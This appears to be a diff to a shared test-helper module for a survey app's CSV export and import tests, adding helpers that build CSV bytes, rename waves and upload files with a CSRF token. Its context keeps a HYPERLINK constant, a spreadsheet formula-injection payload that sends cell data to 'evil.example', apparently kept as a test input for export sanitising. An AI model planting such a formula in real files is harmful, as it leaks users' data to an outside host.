@@ -1,5 +1,6 @@
 """A scored history to download and import again, and the helpers that read files back:
-shared by ``test_exports.py`` and ``test_imports.py`` (a test module imports no other)."""
+shared by ``test_exports.py``, ``test_imports.py`` and ``test_import_jobs.py`` (a test module
+imports no other)."""
 
 from __future__ import annotations
 
@@ -17,7 +18,7 @@ from survey_app.models import Comment, Response, ServiceArea, Wave
 from survey_app.services import exports
 from survey_app.services.waves import close_wave
 from tests import factories
-from tests.factories import sign_in
+from tests.factories import csrf_token, sign_in
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
 SMALL_CELL_COMMENT = "Only two of us work here, so you can tell who wrote this."
@@ -147,3 +148,32 @@ def database_digest() -> str:
         ):
             digest.update(repr(tuple(row)).encode())
     return digest.hexdigest()
+
+
+def csv_bytes(rows: list[list[str]]) -> bytes:
+    buffer = io.StringIO()
+    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
+    return b"\xef\xbb\xbf" + buffer.getvalue().encode("utf-8")
+
+
+def fresh_rows(relationship) -> list[list[str]]:
+    """The history's responses as a file of new waves (2023-Q1, 2023-Q2) with new keys."""
+    header, *rows = as_stored(read_csv(download_bytes("responses", "csv", relationship)))
+    renamed = {"2024-Q1": "2023-Q1", "2024-Q2": "2023-Q2"}
+    for row in rows:
+        row[0] = str(uuid.uuid4())
+        row[1] = renamed[row[1]]
+    return [header, *rows]
+
+
+def upload(client, rel_id: int, data: bytes, name: str = "old.csv", wave: str = ""):
+    page = client.get("/admin/import/")
+    assert page.status_code == 200
+    form = {
+        "csrf_token": csrf_token(page.get_data(as_text=True)),
+        "relationship": str(rel_id),
+        "wave": wave,
+    }
+    if data is not None:
+        form["file"] = (io.BytesIO(data), name)
+    return client.post("/admin/import/", data=form, content_type="multipart/form-data")
